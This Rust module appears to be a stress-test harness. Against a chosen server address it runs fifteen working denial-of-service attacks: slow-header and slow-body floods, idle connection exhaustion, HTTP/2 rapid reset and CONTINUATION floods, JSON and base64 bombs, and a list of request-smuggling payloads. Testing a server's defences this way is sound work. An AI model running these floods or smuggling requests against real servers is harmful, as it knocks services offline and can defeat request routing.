//! What an attacker does. Each attack is many tasks that do one thing again and again.

use std::net::SocketAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};
use std::time::Duration;

use tokio::io::{AsyncReadExt as _, AsyncWriteExt as _};
use tokio::net::{TcpSocket, TcpStream};

/// How long an attacker waits before it comes again, at least.
const AGAIN: Duration = Duration::from_secs(1);
/// How many connections of many the attack opens anew in a second: they are to be idle, and a flood
/// of new ones only shows how much processor the attacker has on the same machine.
const ANEW: usize = 500;
/// How long an attack may take to be under way.
const STARTING: Duration = Duration::from_secs(30);

/// An attack.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Attack {
    HalfHead,
    SlowHead,
    SlowBody,
    Idle,
    IdleHeld,
    Preface,
    HeadBomb,
    Ambiguous,
    RapidReset,
    Continuation,
    Deaf,
    DeafStreams,
    JsonBomb,
    Base64Bomb,
    Compressed,
}

impl Attack {
    pub(crate) const ALL: [Self; 15] = [
        Self::HalfHead,
        Self::SlowHead,
        Self::SlowBody,
        Self::Idle,
        Self::IdleHeld,
        Self::Preface,
        Self::HeadBomb,
        Self::Ambiguous,
        Self::RapidReset,
        Self::Continuation,
        Self::Deaf,
        Self::DeafStreams,
        Self::JsonBomb,
        Self::Base64Bomb,
        Self::Compressed,
    ];

    pub(crate) fn named(name: &str) -> Option<Self> {
        Self::ALL.into_iter().find(|attack| attack.name() == name)
    }

    pub(crate) fn name(self) -> &'static str {
        match self {
            Self::HalfHead => "half-head",
            Self::SlowHead => "byte-a-second",
            Self::SlowBody => "slow-body",
            Self::Idle => "idle",
            Self::IdleHeld => "idle-all-held",
            Self::Preface => "bare-preface",
            Self::HeadBomb => "head-bomb",
            Self::Ambiguous => "ambiguous",
            Self::RapidReset => "rapid-reset",
            Self::Continuation => "continuation",
            Self::Deaf => "deaf-sse",
            Self::DeafStreams => "deaf-http2",
            Self::JsonBomb => "json-bomb",
            Self::Base64Bomb => "base64-bomb",
            Self::Compressed => "compressed-body",
        }
    }

    /// Whether the server must hold all connections for the attack to be one.
    pub(crate) fn needs_room(self) -> bool {
        self == Self::IdleHeld
    }

    /// How many attack at the same time: those that cost the attacker nothing, all; those that
    /// send as fast as they can, a few.
    fn attackers(self, connections: usize) -> usize {
        match self {
            Self::HalfHead | Self::SlowHead | Self::Idle | Self::IdleHeld | Self::Preface => {
                connections
            }
            Self::SlowBody => (connections / 2).min(800),
            Self::Deaf | Self::DeafStreams => 24,
            _ => 4,
        }
    }
}

/// Attacks for ever, and says `ATTACKING` when every attacker has begun.
pub(crate) async fn run(attack: Attack, server: SocketAddr, connections: usize) {
    let attackers = attack.attackers(connections);
    let begun = Arc::new(AtomicUsize::new(0));
    for _ in 0..attackers {
        let begun = Arc::clone(&begun);
        tokio::spawn(async move {
            let mut is_first = true;
            loop {
                // What the server does about it is what is being tried.
                let _ = once(attack, server, || {
                    if std::mem::take(&mut is_first) {
                        begun.fetch_add(1, Ordering::Relaxed);
                    }
                })
                .await;
                tokio::time::sleep(attack.pause(attackers)).await;
            }
        });
    }
    let all = async {
        while begun.load(Ordering::Relaxed) < attackers {
            tokio::time::sleep(Duration::from_millis(10)).await;
        }
    };
    // Some may never get through, which is no less of an attack.
    let _ = tokio::time::timeout(STARTING, all).await;
    println!("ATTACKING");
    std::future::pending::<()>().await;
}

impl Attack {
    fn pause(self, attackers: usize) -> Duration {
        match self {
            Self::HeadBomb | Self::Ambiguous | Self::RapidReset | Self::Continuation => {
                Duration::from_millis(5)
            }
            Self::JsonBomb | Self::Base64Bomb | Self::Compressed => Duration::from_millis(20),
            _ => AGAIN.max(Duration::from_millis((attackers * 1_000 / ANEW) as u64)),
        }
    }
}

/// One attack, until the server ends it; `began` when it is under way.
async fn once(attack: Attack, server: SocketAddr, mut began: impl FnMut()) -> std::io::Result<()> {
    let mut stream = connect(server).await?;
    match attack {
        Attack::Idle | Attack::IdleHeld => {
            began();
            wait(&mut stream).await
        }
        Attack::HalfHead => {
            stream
                .write_all(b"POST /message:send HTTP/1.1\r\nHost: local")
                .await?;
            began();
            wait(&mut stream).await
        }
        Attack::SlowHead => {
            began();
            drip(stream, b"GET /tasks HTTP/1.1\r\nHost: localhost\r\nX: ").await
        }
        Attack::SlowBody => {
            stream.write_all(post(10_000).as_bytes()).await?;
            began();
            drip(stream, b"{").await
        }
        Attack::Preface => {
            stream.write_all(PREFACE).await?;
            began();
            wait(&mut stream).await
        }
        Attack::HeadBomb => {
            began();
            let _ = stream
                .write_all(b"GET /tasks HTTP/1.1\r\nHost: localhost\r\n")
                .await;
            for at in 0..20_000 {
                let header = format!("X-{at}: {}\r\n", "y".repeat(200));
                stream.write_all(header.as_bytes()).await?;
            }
            wait(&mut stream).await
        }
        Attack::Ambiguous => {
            began();
            for request in AMBIGUOUS {
                let mut stream = connect(server).await?;
                let smuggled = "GET /tasks HTTP/1.1\r\nHost: localhost\r\n\r\n";
                let _ = stream
                    .write_all(format!("{request}{smuggled}").as_bytes())
                    .await;
                let _ = tokio::time::timeout(AGAIN, wait(&mut stream)).await;
            }
            Ok(())
        }
        Attack::RapidReset => {
            http2(&mut stream).await?;
            began();
            for id in (1_u32..200_000).step_by(2) {
                let mut frames = headers(id, 4);
                frames.extend_from_slice(&frame(3, 0, id, &[0, 0, 0, 8]));
                stream.write_all(&frames).await?;
            }
            wait(&mut stream).await
        }
        Attack::Continuation => {
            http2(&mut stream).await?;
            began();
            // Headers that never end.
            stream.write_all(&headers(1, 0)).await?;
            let more = frame(9, 0, 1, &[0; 16 * 1024]);
            for _ in 0..10_000 {
                stream.write_all(&more).await?;
            }
            wait(&mut stream).await
        }
        Attack::Deaf => {
            let body = flood();
            let head = format!(
                "POST /message:stream HTTP/1.1\r\nHost: localhost\r\nA2A-Version: 1.0\r\n\
                 Content-Type: application/json\r\nContent-Length: {}\r\n\r\n",
                body.len()
            );
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(body.as_bytes()).await?;
            began();
            closed(&mut stream).await
        }
        Attack::DeafStreams => {
            http2(&mut stream).await?;
            let mut block = vec![0x83, 0x86, 0x44, 15];
            block.extend_from_slice(b"/message:stream");
            block.extend_from_slice(&[0x41, 9]);
            block.extend_from_slice(b"localhost");
            for (name, value) in [("a2a-version", "1.0"), ("content-type", "application/json")] {
                block.push(0);
                for text in [name, value] {
                    block.push(u8::try_from(text.len()).unwrap_or_default());
                    block.extend_from_slice(text.as_bytes());
                }
            }
            stream.write_all(&frame(1, 4, 1, &block)).await?;
            stream
                .write_all(&frame(0, 1, 1, flood().as_bytes()))
                .await?;
            began();
            closed(&mut stream).await
        }
        Attack::JsonBomb => {
            began();
            for body in json_bombs() {
                let mut stream = connect(server).await?;
                stream.write_all(post(body.len()).as_bytes()).await?;
                stream.write_all(body.as_bytes()).await?;
                wait(&mut stream).await?;
            }
            Ok(())
        }
        Attack::Base64Bomb => {
            began();
            let raw = "QUJD".repeat(3 * 1024 * 1024);
            let body = format!(
                r#"{{"message":{{"messageId":"1","role":"ROLE_USER","parts":[{{"raw":"{raw}"}}]}}}}"#
            );
            stream.write_all(post(body.len()).as_bytes()).await?;
            stream.write_all(body.as_bytes()).await?;
            wait(&mut stream).await
        }
        Attack::Compressed => {
            began();
            let head = post(1_000_000).replace("\r\n\r\n", "\r\nContent-Encoding: gzip\r\n\r\n");
            stream.write_all(head.as_bytes()).await?;
            stream.write_all(&vec![0x1f; 1_000_000]).await?;
            wait(&mut stream).await
        }
    }
}

/// Connects from another address than ordinary clients have.
async fn connect(server: SocketAddr) -> std::io::Result<TcpStream> {
    let socket = TcpSocket::new_v4()?;
    // Who does not read need not have room for much.
    socket.set_recv_buffer_size(16 * 1024)?;
    socket.bind(SocketAddr::from(([127, 0, 0, 66], 0)))?;
    socket.connect(server).await
}

/// Reads and forgets until the server ends the connection.
async fn wait(stream: &mut TcpStream) -> std::io::Result<()> {
    let mut room = [0; 4096];
    while stream.read(&mut room).await? > 0 {}
    Ok(())
}

/// Waits without reading until the server has closed the connection: then it cannot be written to.
async fn closed(stream: &mut TcpStream) -> std::io::Result<()> {
    stream.ready(tokio::io::Interest::ERROR).await.map(drop)
}

/// Sends the beginning, and then a byte a second.
async fn drip(mut stream: TcpStream, beginning: &[u8]) -> std::io::Result<()> {
    stream.write_all(beginning).await?;
    loop {
        tokio::time::sleep(Duration::from_secs(1)).await;
        stream.write_all(b" ").await?;
    }
}

/// The head of a message with a body of so many bytes, after which the connection ends.
fn post(bytes: usize) -> String {
    format!(
        "POST /message:send HTTP/1.1\r\nHost: localhost\r\nA2A-Version: 1.0\r\nConnection: \
         close\r\nContent-Type: application/json\r\nContent-Length: {bytes}\r\n\r\n"
    )
}

fn flood() -> String {
    r#"{"message":{"messageId":"1","role":"ROLE_USER","parts":[{"text":"flood"}]}}"#.to_owned()
}

/// Bodies that are small for what they ask of a careless reader.
fn json_bombs() -> Vec<String> {
    let data = |data: &str| {
        format!(
            r#"{{"message":{{"messageId":"1","role":"ROLE_USER","parts":[{{"data":{data}}}]}}}}"#
        )
    };
    let parts = vec![r#"{"text":""}"#; 500_000].join(",");
    vec![
        "[".repeat(4_000_000),
        data(&"[".repeat(4_000_000)),
        data(&format!("{}{}", r#"{"a":"#.repeat(1_000_000), "1")),
        data(&format!("[{}]", vec!["[]"; 2_000_000].join(","))),
        data(&format!("1{}", "0".repeat(4_000_000))),
        data(&format!("\"{}\"", "\\u0041".repeat(700_000))),
        format!(r#"{{"message":{{"messageId":"1","role":"ROLE_USER","parts":[{parts}]}}}}"#),
    ]
}

/// Requests that two readers may read differently.
const AMBIGUOUS: [&str; 8] = [
    "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: localhost\r\nContent-Length: 1\r\nContent-Length: 5\r\n\r\n{}   ",
    "POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n",
    "POST / HTTP/1.1\r\nHost: localhost\r\nTransfer-Encoding: chunked\r\n\r\nffffffffffffffff\r\n",
    "GET /tasks HTTP/1.1\r\nHost: localhost\r\nHost: evil.example\r\n\r\n",
    "GET http://evil.example/tasks HTTP/1.1\r\nHost: localhost\r\n\r\n",
    "GET /tasks HTTP/1.1\r\nHost: me@localhost\r\n\r\n",
    "GET /tasks HTTP/1.1\nHost: localhost\n X: folded\n\n",
];

// === HTTP/2 ===

const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

async fn http2(stream: &mut TcpStream) -> std::io::Result<()> {
    stream.write_all(PREFACE).await?;
    stream.write_all(&frame(4, 0, 0, &[])).await
}

/// `POST /` to localhost.
fn headers(stream: u32, flags: u8) -> Vec<u8> {
    let mut block = vec![0x83, 0x86, 0x84, 0x41, 9];
    block.extend_from_slice(b"localhost");
    frame(1, flags, stream, &block)
}

fn frame(kind: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let length = u32::try_from(payload.len()).unwrap_or_default();
    let [_, length @ ..] = length.to_be_bytes();
    let mut frame = length.to_vec();
    frame.extend_from_slice(&[kind, flags]);
    frame.extend_from_slice(&stream.to_be_bytes());
    frame.extend_from_slice(payload);
    frame
}
